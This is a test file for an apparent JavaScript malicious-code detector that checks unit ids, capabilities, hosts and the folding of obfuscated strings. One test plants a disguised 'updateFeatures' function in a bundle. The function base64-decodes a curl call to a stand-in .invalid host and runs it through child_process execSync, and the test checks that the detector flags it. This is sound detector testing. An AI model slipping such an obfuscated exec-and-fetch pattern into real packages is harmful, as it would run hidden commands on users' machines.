import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { runInNewContext } from 'node:vm'
import fc from 'fast-check'
import { parseSync } from 'oxc-parser'
import { describe, expect, test } from 'vitest'
import type { Unit } from '../../reading.ts'
import { declare } from './declare.ts'
import { Evaluator } from './evaluate.ts'
import { javascript } from './index.ts'
import { codesOf, Scanner } from './tokens.ts'

const modules = join(import.meta.dirname, '..', '..', '..', '..', 'node_modules')
const files = ['commander/lib', 'pino/lib', 'semver/classes', 'yaml/dist/nodes']
  .flatMap((folder) => readdirSync(join(modules, folder)).map((name) => join(modules, folder, name)))
  .filter((path) => path.endsWith('.js'))

function unitsOf(code: string, path = 'a.js'): readonly Unit[] {
  const { units, notes } = javascript.read({ path, bytes: Buffer.from(code) })
  expect(notes).toEqual([])
  return units
}

function ids(code: string): string[] {
  return unitsOf(code).map(({ id }) => id)
}

/** The same program with other white space, comments and quotes, by tokens; breaks between lines stay breaks. */
function rewritten(code: string): string {
  let out = ''
  let at = 0
  new Scanner(codesOf(code), (kind, start, end) => {
    if (start < at) return
    const gap = code.slice(at, start)
    if (gap.includes('\n')) out += '\n\t// http://comment.invalid eval("x")\n'
    else if (gap !== '') out += ' /* require("child_process") */ '
    const token = code.slice(start, end)
    const inner = token.slice(1, -1)
    out += kind === 'string' && !/['"\\]/.test(inner) ? (token.startsWith('"') ? `'${inner}'` : `"${inner}"`) : token
    at = end
  }).run()
  return out + code.slice(at)
}

describe('units are the same', () => {
  test.each(files)('with other white space, comments and quotes: %s', (path) => {
    const code = readFileSync(path, 'utf8')
    expect(ids(rewritten(code))).toEqual(ids(code))
  })

  test('in another order and under other numbers of a bundle', () => {
    const sources = files
      .filter((path) => !path.includes('commander'))
      .slice(0, 12)
      .map((path) => readFileSync(path, 'utf8'))
    const bundle = (order: readonly number[], from: number) =>
      `(() => { var modules = {\n${order.map((index) => `${from + index}: (module, exports, require) => {\n${sources[index]}\n}`).join(',\n')} }; load(modules) })()`
    const order = sources.map((_, index) => index)
    const one = new Set(ids(bundle(order, 100)))
    const other = ids(bundle(order.toReversed(), 7000)).filter((id) => !one.has(id))
    expect(one.size).toBeGreaterThan(150)
    // The modules' own entries, whose keys are their numbers, and the table that holds them.
    expect(other.length).toBeLessThanOrEqual(sources.length + 2)
  })

  test('with local names changed', () => {
    const code =
      "function greet(name, times) { const parts = []; for (let index = 0; index < times; index++) parts.push(name + index); return parts.join(', ') }\nmodule.exports = { greet }"
    const renamed = "function a(b,c){const d=[];for(let e=0;e<c;e++)d.push(b+e);return d.join(', ')}\nmodule.exports={greet:a}"
    expect(ids(renamed)).toEqual(ids(code))
  })

  test('with other names of chunks', () => {
    expect(ids("import { a } from './dep-yUJfKD1i.js'")).toEqual(ids("import { a } from './dep-BiVmWRQp.js'"))
    expect(ids("import { a } from './depend.js'")).not.toEqual(ids("import { a } from './another.js'"))
  })
})

describe('units differ', () => {
  test.each([
    ['a(1)', 'a(2)'],
    ['a.b()', 'a.c()'],
    ["a('x')", "a('y')"],
    ['if (a) b()', 'if (!a) b()'],
    ['const r = x.exec; r(y)', "const r = require('child_process').exec; r(y)"],
    ['f(x, y)', 'f(y, x)'],
    ['a("b", "c")', 'a("b\\",\\"c")'],
    ['class A { static b() {} }', 'class A { b() {} }'],
    ['async () => { for await (const a of b) c(a) }', 'async () => { for (const a of b) c(a) }'],
  ])('%s – %s', (one, other) => {
    expect(ids(one)).not.toEqual(ids(other))
  })
})

test('a statement put into a large bundle is a handful of novel units', () => {
  const code = readFileSync(join(modules, 'jiti/dist/jiti.cjs'), 'utf8')
  const before = new Set(ids(code))
  const anchor = code.indexOf(';function ', Math.floor(code.length / 2)) + 1
  const added = `async function updateFeatures(t){const{execSync:e}=require("child_process");const c=Buffer.from("Y3VybCBodHRwOi8vYy5pbnZhbGlk","base64").toString();try{e(c)}catch(r){}};`
  const novel = unitsOf(code.slice(0, anchor) + added + code.slice(anchor)).filter(({ id }) => !before.has(id))
  expect(anchor).toBeGreaterThan(0)
  expect(before.size).toBeGreaterThan(500)
  expect(novel.length).toBeLessThanOrEqual(4)
  expect(novel.flatMap(({ capabilities }) => capabilities)).toEqual(expect.arrayContaining(['execute', 'shell', 'decode']))
  expect(novel.flatMap(({ hosts }) => hosts ?? [])).toEqual(['c.invalid'])
})

test('every literal of a file is in the reach of some unit: nothing is dropped between parent and parts', () => {
  const shapes = [
    'f(@)',
    'class A { m() { return @ } static s = @ }',
    'o = { k: [@, { l: @ }], get g() { return @ } }',
    'switch (x) { case @: y(@); default: z(@) }',
    '(() => { a(@) })()',
    'a ? b(@) : c([@])',
  ]
  const more = [
    'for (const a of [@]) { try { b(@) } catch ({ c = @ }) { d(@) } finally { e(@) } }',
    'var { p = @, q: [r = @] } = s',
    'x = (a(@), b(@), () => @)',
    'label: while (a(@)) { if (b) { c(@) } else d(@) }',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is source code to be read
    't`a${@}b`',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is source code to be read
    'new F(@)[@] += `${@}`',
  ]
  let count = 0
  const statement = (index: number) => [...shapes, ...more][index % 12]?.replaceAll('@', () => `"http://h${count++}.invalid"`)
  const code = `(function () { ${Array.from({ length: 240 }, (_, index) => statement(index)).join(';\n')} })()`
  const hosts = new Set(unitsOf(code).flatMap((unit) => unit.hosts ?? []))
  expect(hosts.size).toBe(count)
})

describe('texts are folded as the engine computes them', () => {
  const quoted = fc.string({ unit: fc.constantFrom(...'abcxyz019 .-/:é'), minLength: 1, maxLength: 12 }).map((text) => JSON.stringify(text))
  const index = fc.integer({ min: 0, max: 6 })
  const expression: fc.Arbitrary<string> = fc.letrec<{ tree: string }>((tie) => ({
    tree: fc.oneof(
      { maxDepth: 5 },
      quoted,
      fc.tuple(tie('tree'), tie('tree')).map(([one, other]) => `(${one} + ${other})`),
      tie('tree').map((one) => `${one}.split('').reverse().join('')`),
      tie('tree').map((one) => `[${one}, 'q'].join('-')`),
      tie('tree').map((one) => `\`<\${${one}}>\``),
      fc.tuple(tie('tree'), index, index).map(([one, from, to]) => `${one}.slice(${from}, ${from + to})`),
      fc.tuple(tie('tree'), index, index).map(([one, from, to]) => `${one}.substring(${from}, ${to})`),
      fc.tuple(tie('tree'), index, index).map(([one, from, to]) => `${one}.substr(${from}, ${to})`),
      tie('tree').map((one) => `${one}.replace('a', 'b$&')`),
      tie('tree').map((one) => `${one}.toUpperCase().trim()`),
      fc.tuple(tie('tree'), index).map(([one, times]) => `${one}.repeat(${times % 3})`),
      fc
        .array(fc.integer({ min: 32, max: 126 }), { minLength: 1, maxLength: 8 })
        .map((codes) => `String.fromCharCode(${codes.map((code) => `0x${code.toString(16)}`).join(', ')})`),
      quoted.map((text) => `Buffer.from(${JSON.stringify(Buffer.from(JSON.parse(text), 'latin1').toString('hex'))}, 'hex').toString('latin1')`),
      quoted.map((text) => `atob(${JSON.stringify(Buffer.from(JSON.parse(text), 'latin1').toString('base64'))})`),
      quoted.map((text) => `decodeURIComponent(${JSON.stringify(encodeURIComponent(JSON.parse(text)))})`),
    ),
  })).tree

  test('random expressions', () => {
    fc.assert(
      fc.property(expression, (code) => {
        const { program } = parseSync('a.js', code)
        const declared = declare(program)
        const statement = program.body[0]
        if (statement?.type !== 'ExpressionStatement') throw new Error('no expression')
        const folded = new Evaluator(declared).of(statement.expression, declared.root, 0)
        expect(folded?.kind === 'text' ? folded.text : undefined).toBe(runInNewContext(code, { Buffer, atob }))
      }),
      { numRuns: 500 },
    )
  })
})
